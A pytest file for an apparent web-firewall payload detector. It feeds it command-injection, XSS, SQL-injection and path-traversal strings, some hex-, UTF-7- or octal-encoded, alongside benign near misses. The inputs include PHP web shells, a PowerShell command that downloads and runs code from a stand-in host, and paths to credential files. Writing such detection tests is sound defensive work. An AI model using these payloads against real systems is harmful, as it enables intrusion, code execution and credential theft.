"""Payloads carried inside other code or another encoding: a shell command handed
to a language's call that runs it, a script written to the server by `echo`, the
Windows registry changed by its hive, sink names spelled by joining quoted
pieces, an SQL statement in a hex literal (ASCII or UTF-16), markup in UTF-7,
steps up spelled as hex literals in the request path, and files of an account's
tools and editors that no application hands out. Each with near misses that
stay quiet."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from shieldwall.runtime.detect.decode import decode, utf7_text
from tests.runtime.payloads import payload_kinds


def _query(kind: str, value: str) -> bool:
    return kind in payload_kinds(query="q=" + quote(value, safe=""))


@pytest.mark.parametrize(
    "value",
    [
        ";system('id')",
        "system('cat /etc/hostname')",
        "exec('pwd')",
        'os.popen("ls -la")',
        'Runtime.getRuntime().exec("whoami")',
        "<?php system($_GET['c']); ?>",
        "echo \"<?php include($_GET['p']); ?>\" > x.php",
        'reg add "HKLM\\System\\Control" /v Deny /t REG_DWORD /d 0 /f',
    ],
)
def test_a_command_handed_to_code_that_runs_it_is_cmdi(value: str) -> None:
    assert _query("cmdi", value)


@pytest.mark.parametrize(
    "value",
    [
        "system('hello world')",
        "the system('s) design",
        "exec('list')",
        "echo hello > notes.txt",
        "the reg add-on for HKLM fans",
    ],
)
def test_calls_and_words_near_those_commands_are_not_cmdi(value: str) -> None:
    assert not _query("cmdi", value)


@pytest.mark.parametrize(
    "value",
    [
        "a=0||'ev'+'al',b=0||location.hash,1[a](b)",
        "x='java'+'script:alert(1)'",
        'w["al"+"ert"](1)',
    ],
)
def test_sinks_spelled_by_joining_quoted_pieces_are_xss(value: str) -> None:
    assert _query("xss", value)


@pytest.mark.parametrize("value", ["'rock' + 'roll'", "'ev' + 'ening'", "set level to 'alert'"])
def test_joined_words_that_spell_no_sink_are_not_xss(value: str) -> None:
    assert not _query("xss", value)


def test_markup_in_utf7_is_read_and_judged() -> None:
    assert utf7_text("+ADw-b+AD4-") == "<b>"
    assert utf7_text("C++ and A+B") is None
    assert _query("xss", "+ADw-script+AD4-x+ADw-/script+AD4-")
    assert not _query("xss", "C+AD0-1 and D")


def _hex(text: str, utf16: bool = False) -> str:
    return "0x" + text.encode("utf-16-le" if utf16 else "ascii").hex()


def test_a_statement_in_a_hex_literal_is_sqli() -> None:
    assert _query("sqli", _hex("waitfor delay '0:0:5'"))
    assert _query("sqli", _hex("waitfor delay '0:0:5'", utf16=True))
    assert _query("sqli", "DECLARE @q varchar(99); SET @q=" + _hex("select @@version"))


def test_hex_that_spells_no_statement_is_not_sqli() -> None:
    assert not _query("sqli", _hex("hello world, how are you"))
    assert not _query("sqli", "0x" + "ab12" * 10)  # an address or a hash
    assert not _query("sqli", _hex("waitfor", utf16=True)[:-2])


def test_a_quote_before_a_subquery_of_the_first_rows_is_sqli() -> None:
    assert _query("sqli", "' (select top 1 name from users")
    assert not _query("sqli", "size 'M' (select one)")


def test_steps_up_spelled_as_hex_literals_in_the_path_are_traversal() -> None:
    assert "path-traversal" in payload_kinds(path="/static/0x2e0x2e/0x2e0x2e/config.php")
    assert "path-traversal" not in payload_kinds(path="/img/0x2e0x2e.png")


@pytest.mark.parametrize(
    "value",
    [
        "/home/u/.gitconfig",
        "../../.vimrc",
        "/home/u/.azure/accessTokens.json",
        "/home/u/.m2/settings.xml",
        "app/.idea/workspace.xml",
        ".vscode/sftp.json",
        ".DS_Store",
        "CVS/Root",
        "c:/sysprep/sysprep.xml",
        "c:/unattend.xml",
    ],
)
def test_files_of_an_accounts_tools_and_editors_are_traversal(value: str) -> None:
    assert _query("path-traversal", value)


@pytest.mark.parametrize(
    "value", ["my.vimrc", ".vscode tips", "idea/vscode/", "cvs/root beer", "unattend.xml guide"]
)
def test_words_near_those_files_are_not_traversal(value: str) -> None:
    assert not _query("path-traversal", value)


def test_an_editors_folder_in_the_request_path_is_traversal() -> None:
    assert "path-traversal" in payload_kinds(path="/.idea/workspace.xml")
    assert "path-traversal" in payload_kinds(path="/CVS/Entries")
    assert "path-traversal" not in payload_kinds(path="/ideas/vscode-tips")


def test_javascript_octal_escapes_are_read_in_runs() -> None:
    assert decode(r"\152\141\166\141\163\143\162\151\160\164\072x") == "javascript:x"
    assert decode(r"c:\100\files") == r"c:\100\files"  # one alone stays
    assert _query("xss", r"\152\141\166\141\163\143\162\151\160\164\072alert(1)")


def test_visual_basics_message_box_is_a_sink() -> None:
    assert _query("xss", "Execute(MsgBox(chr(88)&chr(83)&chr(83)))<")
    assert not _query("xss", "msgbox tips for vba")


@pytest.mark.parametrize(
    "value",
    [
        "AND LEN(SELECT TOP 1 username FROM tblusers)=5 ; -- -",
        "WITH d AS (SELECT (ROW_NUMBER() OVER (ORDER BY m)) as r,* FROM log)",
        "EXECUTE('EXECUTE(''CREATE LOGIN u'')')",
        "COPY (SELECT '') to PROGRAM 'nslookup x.example'",
        "CREATE OR REPLACE FUNCTION f(cstring) RETURNS int AS 'x' LANGUAGE 'c';",
        "ATTACH DATABASE '/var/www/x.php' AS x;",
        "admin' ALLOW FILTERING; ",
    ],
)
def test_statements_of_one_dialect_or_another_are_sqli(value: str) -> None:
    assert _query("sqli", value)


@pytest.mark.parametrize(
    "value",
    [
        "copy to program files",
        "attach a file as pdf",
        "please allow filtering",
        "len (select one)",
    ],
)
def test_words_near_those_statements_are_not_sqli(value: str) -> None:
    assert not _query("sqli", value)


@pytest.mark.parametrize(
    "value",
    [
        "php://filter/convert.base64-encode/resource=index.php",
        "pHp://FilTer/read=string.rot13/resource=index.php",
        "php://input",
        "zip://shell.jpg#x.php",
        "phar://./upload/x.phar",
    ],
)
def test_php_stream_wrappers_that_read_local_files_are_traversal(value: str) -> None:
    assert _query("path-traversal", value)


def test_words_near_php_wrappers_are_not_traversal() -> None:
    assert not _query("path-traversal", "php is fun, zip it")
    assert not _query("path-traversal", "glob pattern://")


@pytest.mark.parametrize(
    "value", ["CMD=$'id';$CMD", 'c="cat /etc/hosts";$c', "\rC=$\\'whoami\\';${C}"]
)
def test_a_command_kept_in_a_variable_then_run_is_cmdi(value: str) -> None:
    assert _query("cmdi", value)


@pytest.mark.parametrize("value", ['name="joe"; $name', "c='hello';$c", "a='id';$b"])
def test_a_variable_holding_no_command_or_not_run_is_not_cmdi(value: str) -> None:
    assert not _query("cmdi", value)


def test_a_backup_restored_from_a_disk_share_is_sqli() -> None:
    assert _query("sqli", "RESTORE LOG [T] FROM DISK = '\\\\10.0.0.1\\f'")
    assert _query("sqli", "RESTORE HEADERONLY FROM DISK = 'c:\\x.bak'")
    assert not _query("sqli", "restore the database from disk images")


@pytest.mark.parametrize(
    "path", ["/web.config", "/wp-config.php", "/blog/wp-config.php.bak", "/php.ini"]
)
def test_server_configuration_asked_for_by_the_request_path_is_traversal(path: str) -> None:
    assert "path-traversal" in payload_kinds(path=path)


@pytest.mark.parametrize(
    "path",
    ["/docs/php.ini-guide", "/web.configuration", "/shop/web.config.html", "/wp-content/a.png"],
)
def test_paths_near_server_configuration_are_not_traversal(path: str) -> None:
    assert "path-traversal" not in payload_kinds(path=path)


@pytest.mark.parametrize(
    "value",
    [
        ";x=id;$x",
        "; ${PATH:0:1}bin${PATH:0:1}ls",
        "; iex(New-Object Net.WebClient).DownloadString('http://a.example/x')",
        "(New-Object System.Net.WebClient).DownloadFile('http://a.example/x','x.exe')",
    ],
)
def test_unquoted_variables_substrings_and_downloads_run_are_cmdi(value: str) -> None:
    assert _query("cmdi", value)


@pytest.mark.parametrize("value", ["a=b;$a", "x=5; ${x}", "download string tips", "new object"])
def test_near_misses_of_variables_and_downloads_are_not_cmdi(value: str) -> None:
    assert not _query("cmdi", value)


@pytest.mark.parametrize(
    "value",
    ["location=name", "x=1;top.location=location.hash.slice(1)", "Reflect.apply(alert,null,[1])"],
)
def test_the_page_sent_where_its_name_says_or_a_sink_applied_is_xss(value: str) -> None:
    assert _query("xss", value)


@pytest.mark.parametrize(
    "value", ["my location=name tag", "location = home", "reflect.apply the theme"]
)
def test_near_misses_of_location_and_reflect_are_not_xss(value: str) -> None:
    assert not _query("xss", value)


def test_mongodb_operators_as_quoted_json_keys_and_column_lists_are_sqli() -> None:
    assert _query("sqli", '{"username": {"$ne": null}}')
    assert _query("sqli", "ORDER BY 1,2,3")
    assert not _query("sqli", "use $ne in mongo")
    assert not _query("sqli", "sort: order by 1, 2 items")


@pytest.mark.parametrize(
    "value",
    [
        "..2fetc2fpasswd",
        "..2fetc2fpasswd\x00",
        "..5cwindows5cwin.ini",
        "..2fapache2flogs2ferror.log",
    ],
)
def test_a_step_up_whose_slashes_all_lost_their_percent_is_traversal(value: str) -> None:
    assert _query("path-traversal", value)


@pytest.mark.parametrize("value", ["v1..2f3 notes", "abc..2fdef", "2f5c..2 files"])
def test_near_misses_of_percentless_slashes_are_not_traversal(value: str) -> None:
    assert not _query("path-traversal", value)
